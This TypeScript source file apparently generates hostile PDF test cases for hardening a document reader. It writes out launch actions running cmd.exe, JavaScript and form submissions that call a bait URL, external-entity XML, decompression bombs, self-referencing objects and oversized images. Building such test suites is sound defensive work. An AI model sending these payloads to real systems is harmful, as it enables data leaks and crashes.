/** PDF files that fetch, loop, nest or claim more than they contain. */
import { deflateSync } from 'node:zlib'
import { onePagePdf, pdfStream, rawPdf } from '../pdf.ts'
import { type Attack, attacksOn, type Bait, canary, heavy, outside } from './attack.ts'
import { inflatingZlib } from './bombs.ts'

const CATALOGUE = '<< /Type /Catalog /Pages 2 0 R >>'
const PAGES = '<< /Type /Pages /Count 1 /Kids [3 0 R] >>'
const BOX = '/MediaBox [0 0 200 100]'
const pageWith = (entries: string) => `<< /Type /Page /Parent 2 0 R ${BOX} ${entries} >>`
const stream = (entries: string, data: Buffer) => pdfStream(entries, data.toString('latin1'))

const actions = (bait: Bait) => [
  `<< /S /Launch /F (${canary(bait, 'txt')}) /Win << /F (cmd.exe) /P (/c calc) >> >>`,
  `<< /S /URI /URI (${bait.url}/uri) >>`,
  `<< /S /GoToR /F << /Type /Filespec /FS /URL /F (${bait.url}/r.pdf) >> /D [0 /Fit] >>`,
  `<< /S /SubmitForm /F << /FS /URL /F (${bait.url}/submit) >> >>`,
  `<< /S /ImportData /F (${canary(bait, 'txt')}) >>`,
  `<< /S /JavaScript /JS (app.launchURL\\("${bait.url}/js"\\); this.submitForm\\("${bait.url}/s"\\); while\\(1\\){}) >>`,
  `<< /S /Rendition /R << /S /MR /C << /S /MCD /D << /FS /URL /F (${bait.url}/video) >> >> >> >>`,
]
const external = (bait: Bait, file: boolean) =>
  file ? `/F (${canary(bait, 'png')})` : `/F << /Type /Filespec /FS /URL /F (${bait.url}/stream) >>`
const image = (entries: string, data: Buffer = Buffer.alloc(64)) =>
  onePagePdf('200 0 0 100 0 0 cm /I Do', `${BOX} /Resources << /XObject << /I 5 0 R >> >>`, [
    stream(`/Type /XObject /Subtype /Image ${entries}`, data),
  ])
const content = (data: Buffer, filter = '/Filter /FlateDecode') =>
  rawPdf([CATALOGUE, PAGES, pageWith('/Contents 4 0 R'), stream(filter, data)])

/** JBIG2 segments whose page and region have the largest possible size. */
const jbig2 = Buffer.from(
  `00000000300001000000130${'ffffffff'.repeat(2)}0000000000000000000000${'00000001260001ffffffffffffffffffffffff00000000000000000003ffff'}`
    .padEnd(180, '0')
    .slice(0, 180),
  'hex',
)

const pdfs: Record<string, Attack['bytes']> = {
  'actions of every kind, when it opens and on the page': bait =>
    rawPdf([
      `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R /DC 6 0 R >> /Names << /JavaScript << /Names [(a) 10 0 R] >> >> >>`,
      PAGES,
      pageWith(
        `/Contents 4 0 R /AA << /O 5 0 R /C 6 0 R >> /Annots [${actions(bait)
          .map((_, n) => `<< /Type /Annot /Subtype /Link /Rect [0 0 200 100] /A ${n + 5} 0 R >>`)
          .join(' ')}]`,
      ),
      pdfStream('', 'BT ET'),
      ...actions(bait),
    ]),
  'a page whose content lies in a file': bait =>
    rawPdf([CATALOGUE, PAGES, pageWith('/Contents 4 0 R'), pdfStream(external(bait, true), 'BT ET')]),
  'pictures that lie in a file and at an address': bait =>
    image(
      `/Width 8 /Height 8 /BitsPerComponent 8 /ColorSpace /DeviceGray ${external(bait, true)} /OPI << /2.0 << /F (${canary(bait, 'png')}) >> >> /Alternates [<< /Image 5 0 R >>] ${external(bait, false)}`,
    ),
  'a form, parts of which lie elsewhere': bait =>
    onePagePdf('/X Do', `${BOX} /Resources << /XObject << /X 5 0 R >> >>`, [
      pdfStream(
        `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (${canary(bait, 'docx')}) /Page 0 >>`,
        '0 0 9 9 re f',
      ),
    ]),
  'forms and metadata of XML with entities': bait =>
    rawPdf([
      '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 5 0 R >> /Metadata 6 0 R >>',
      PAGES,
      pageWith('/Contents 4 0 R'),
      pdfStream('', 'BT ET'),
      pdfStream(
        '',
        `<?xml version="1.0"?>${outside('xdp', bait)}<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&file;&web;</xdp:xdp>`,
      ),
      pdfStream(
        '/Type /Metadata /Subtype /XML',
        `<?xml version="1.0"?>${outside('x', bait)}<x:xmpmeta xmlns:x="adobe:ns:meta/">&file;&web;</x:xmpmeta>`,
      ),
    ]),
  'files attached from elsewhere': bait =>
    rawPdf([
      `<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (${canary(bait, 'txt')}) /EF << /F 5 0 R >> >>] >> >> /AF [<< /Type /Filespec /F (${bait.url}/af) /FS /URL >>] >>`,
      PAGES,
      pageWith('/Contents 4 0 R'),
      pdfStream('', 'BT ET'),
      pdfStream(external(bait, true), 'x'),
    ]),
  'a page that is its own parent and child': () =>
    rawPdf([CATALOGUE, '<< /Type /Pages /Count 1 /Kids [2 0 R] /Parent 2 0 R >>']),
  'a page tree fifty thousand deep': () =>
    rawPdf([
      CATALOGUE,
      ...Array.from(
        { length: 50_000 },
        (_, n) => `<< /Type /Pages /Count 1 /Kids [${n + 3} 0 R] /Parent ${n + 1} 0 R >>`,
      ),
      pageWith(''),
    ]),
  'two thousand million pages': () =>
    rawPdf([
      CATALOGUE,
      '<< /Type /Pages /Count 2147483647 /Kids [3 0 R] >>',
      pageWith('/Contents 4 0 R'),
      pdfStream('', 'BT ET'),
    ]),
  'a page that comes fifty thousand times': () =>
    rawPdf([CATALOGUE, `<< /Type /Pages /Count 50000 /Kids [${'3 0 R '.repeat(50_000)}] >>`, pageWith('')]),
  'a table of 2^31 objects': () =>
    Buffer.from(
      onePagePdf('BT ET')
        .toString('latin1')
        .replace(/xref\n0 \d+/, 'xref\n0 2147483647')
        .replace(/\/Size \d+/, '/Size 2147483647'),
      'latin1',
    ),
  'tables that lead to one another': () => {
    const text = onePagePdf('BT ET').toString('latin1')
    return Buffer.from(
      text.replace(
        '/Root',
        `/Prev ${text.lastIndexOf('xref\n0')} /XRefStm ${text.lastIndexOf('xref\n0')} /Root`,
      ),
      'latin1',
    )
  },
  'an object stream that lies in itself': () =>
    rawPdf([
      CATALOGUE,
      PAGES,
      pageWith('/Contents 4 0 R'),
      stream('/Type /ObjStm /N 100000 /First 10 /Extends 4 0 R', Buffer.from('4 0 1 0 2 0 3 0 << >>')),
    ]),
  'a length that is its own stream': () =>
    rawPdf([CATALOGUE, PAGES, pageWith('/Contents 4 0 R'), '<< /Length 4 0 R >>\nstream\nBT ET\nendstream']),
  'a hundred thousand brackets': () =>
    onePagePdf(
      `${'['.repeat(100_000)} ${'<<'.repeat(100_000)} ${'('.repeat(100_000)}`,
      `${BOX} /X ${'['.repeat(100_000)}${']'.repeat(100_000)} /Y ${'<< /A '.repeat(50_000)}1${' >>'.repeat(50_000)}`,
    ),
  'a hundred thousand saved states': () => onePagePdf('q '.repeat(100_000)),
  'a content that unpacks to 500 MB': () => content(inflatingZlib(500, ' ')),
  'a content packed three times over': () =>
    content(
      deflateSync(deflateSync(inflatingZlib(2000, ' '))),
      '/Filter [/FlateDecode /FlateDecode /FlateDecode]',
    ),
  'a hundred filters of hexadecimal digits': () =>
    content(Buffer.from('3030'), `/Filter [${'/ASCIIHexDecode '.repeat(100)}]`),
  'a predictor of 2^31 columns': () =>
    content(
      deflateSync(Buffer.alloc(1000)),
      '/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 2147483647 /BitsPerComponent 32 >>',
    ),
  'a form that draws itself twice': () =>
    onePagePdf('/X Do', `${BOX} /Resources << /XObject << /X 5 0 R >> >>`, [
      pdfStream(
        `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>`,
        '/X Do /X Do',
      ),
    ]),
  'forms that draw the next twice, forty of them': () =>
    onePagePdf(
      '/X Do',
      `${BOX} /Resources << /XObject << /X 5 0 R >> >>`,
      Array.from({ length: 40 }, (_, n) =>
        pdfStream(
          `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X ${n === 39 ? 5 + n : 6 + n} 0 R >> >>`,
          n === 39 ? '0 0 1 1 re f' : '/X Do /X Do',
        ),
      ),
    ),
  'a font whose letters are set in itself': () =>
    onePagePdf('BT /F 10 Tf (aa) Tj ET', `${BOX} /Resources << /Font << /F 5 0 R >> >>`, [
      '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F 5 0 R >> >> >>',
      pdfStream('', 'BT /F 1 Tf (aa) Tj ET'),
    ]),
  'a pattern filled with itself': () =>
    onePagePdf('/Pattern cs /P scn 0 0 200 100 re f', `${BOX} /Resources << /Pattern << /P 5 0 R >> >>`, [
      pdfStream(
        '/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.000001 /YStep 0.000001 /Resources << /Pattern << /P 5 0 R >> >>',
        '/Pattern cs /P scn 0 0 1 1 re f',
      ),
    ]),
  'a function of functions of itself': () =>
    onePagePdf(
      '/S sh',
      `${BOX} /Resources << /Shading << /S << /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 200 100] /Function 5 0 R >> >> >>`,
      ['<< /FunctionType 3 /Domain [0 1] /Functions [5 0 R 5 0 R] /Bounds [0.5] /Encode [0 1 0 1] >>'],
    ),
  'a colour space of itself': () =>
    onePagePdf('/C cs 0 scn 0 0 9 9 re f', `${BOX} /Resources << /ColorSpace << /C 5 0 R >> >>`, [
      '[/Indexed 5 0 R 255 5 0 R]',
    ]),
  'contents that are their own next ones': () =>
    rawPdf([
      '<< /Type /Catalog /Pages 2 0 R /Outlines 5 0 R >>',
      PAGES,
      pageWith('/Contents 4 0 R'),
      pdfStream('', 'BT ET'),
      '<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>',
      '<< /Title (a) /Parent 5 0 R /Next 6 0 R /Prev 6 0 R /First 6 0 R /Last 6 0 R /Dest [3 0 R /Fit] >>',
    ]),
  'a structure that holds itself': () =>
    rawPdf([
      '<< /Type /Catalog /Pages 2 0 R /MarkInfo << /Marked true >> /StructTreeRoot 5 0 R >>',
      PAGES,
      pageWith('/Contents 4 0 R /StructParents 0'),
      pdfStream('', '/P << /MCID 0 >> BDC BT ET EMC'),
      '<< /Type /StructTreeRoot /K [6 0 R 5 0 R] /ParentTree << /Kids [5 0 R] >> >>',
      '<< /Type /StructElem /S /P /P 6 0 R /K [6 0 R 6 0 R 0] /Pg 3 0 R >>',
    ]),
  'a picture of 2^31 by 2^31': () =>
    image('/Width 2147483647 /Height 2147483647 /BitsPerComponent 16 /ColorSpace /DeviceCMYK'),
  'a picture of 65,535 by 65,535 in 4 MB': () =>
    image(
      '/Width 65535 /Height 65535 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /FlateDecode',
      inflatingZlib(4295),
    ),
  'a picture of JBIG2 as large as numbers go': () =>
    image(
      '/Width 65535 /Height 65535 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode',
      jbig2,
    ),
  'a fax of 2^31 columns': () =>
    image(
      '/Width 2147483647 /Height 65535 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 2147483647 /Rows 2147483647 >>',
    ),
  'a JPEG 2000 of 2^32 by 2^32': () =>
    image(
      '/Width 9 /Height 9 /Filter /JPXDecode',
      Buffer.from(
        `ff4fff51002f0000${'ffffffff'.repeat(2)}${'00000000'.repeat(2)}${'ffffffff'.repeat(2)}${'00000000'.repeat(2)}0003070101070101070101ff52000c00000001000304040001ff5c00`,
        'hex',
      ),
    ),
  'a page of 2^31 by 2^31 points': () =>
    onePagePdf('BT ET', '/MediaBox [0 0 2147483647 2147483647] /UserUnit 1000000'),
  'a page without a size': () => onePagePdf('BT ET', '/MediaBox [0 0 0 0] /Rotate 12345'),
  'a million letters on top of one another': () =>
    onePagePdf(
      `BT /F 10 Tf ${'(aaaaaaaaaa) Tj 0 0 Td '.repeat(20_000)} ET`,
      `${BOX} /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>`,
    ),
  'encryption that makes no sense': () =>
    rawPdf(
      [CATALOGUE, PAGES, pageWith('')],
      '/Encrypt << /Filter /Standard /V 5 /R 6 /Length 2147483647 /O () /U () /P -1 /CF << /StdCF << /CFM /AESV3 /Length 99999 >> >> /StmF /StdCF >> /ID [() ()]',
    ),
}

export const pdfAttacks: Attack[] = heavy(
  [
    ...attacksOn('pdf', pdfs),
    // Read like other documents; the table is made from the text.
    ...attacksOn('bank-statement', pdfs, { suffix: 'pdf', heavy: true }),
  ],
  'a picture of 65,535 by 65,535 in 4 MB',
  'a form that draws itself twice',
  'forms that draw the next twice, forty of them',
  'a content that unpacks to 500 MB',
  'a million letters on top of one another',
  'a content packed three times over',
  'a page tree fifty thousand deep',
  'a picture of 2^31 by 2^31',
)
